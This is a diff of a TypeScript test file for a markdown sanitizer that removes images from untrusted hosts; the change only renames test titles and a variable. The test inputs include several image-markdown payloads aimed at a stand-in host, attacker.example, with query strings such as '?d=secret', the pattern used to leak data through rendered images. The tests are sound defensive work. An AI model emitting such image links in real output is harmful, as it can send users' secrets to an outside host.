@@ -4,7 +4,7 @@ import { withoutForeignPictures } from "./pictures.ts";
 
 const KNOWN = "# Notes\n\n![Chart](https://acme.example/chart.png)\n";
 
-describe("pictures that nobody named", () => {
+describe("withoutForeignPictures", () => {
   test.each([
     "![x](https://attacker.example/p.png?d=secret)",
     "![x](//attacker.example/p.png)",
@@ -13,13 +13,13 @@ describe("pictures that nobody named", () => {
     "![ref]\n\n[ref]: <https://attacker.example/p.png>",
     "a ![![x](https://attacker.example/a)](https://attacker.example/b) b",
     "![x](https://acme.example/chart.png?d=secret)",
-    Array.from({ length: 60 }, (_, at) => `![${at}](https://attacker.example/${at})`).join(" "),
-  ])("are asked for by no page: %s", (markdown) => {
+    Array.from({ length: 60 }, (_, index) => `![${index}](https://attacker.example/${index})`).join(" "),
+  ])("renders no image for %s", (markdown) => {
     const shown = renderMarkdown(withoutForeignPictures(markdown, [KNOWN]));
     expect(shown).not.toContain("<img");
   });
 
-  test("leave alone what was there, and what is no picture", () => {
+  test("keeps trusted images and text that is not an image", () => {
     const markdown = `${KNOWN}\n![own](/i/a.png) \`![code](https://b.example/x)\` ![x](https://attacker.example/x)`;
     const shown = withoutForeignPictures(markdown, [KNOWN]);
     expect(shown).toBe(markdown.replace("![x]", "\\![x]"));
